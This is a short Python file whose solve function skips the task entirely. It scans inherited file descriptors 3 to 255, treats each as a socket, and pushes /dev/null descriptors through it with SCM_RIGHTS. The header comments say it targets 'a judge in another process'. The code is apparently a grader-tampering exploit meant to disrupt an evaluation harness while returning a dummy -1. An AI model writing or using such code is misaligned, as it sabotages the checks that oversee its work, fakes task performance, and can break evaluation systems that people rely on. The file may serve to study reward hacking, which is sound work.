# It passes descriptors of its own over the channel, for the other side to trip over.
# fools: none -- it aims at a judge in another process
import array
import os
import socket


def solve(items):
    opened = [os.open("/dev/null", os.O_RDWR) for _ in range(8)]
    for number in range(3, 256):
        try:
            peer = socket.socket(fileno=os.dup(number))
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", opened))
            peer.sendmsg([b"\x00\x00\x00\x00"], [rights])
        except (OSError, ValueError):
            continue
    return -1
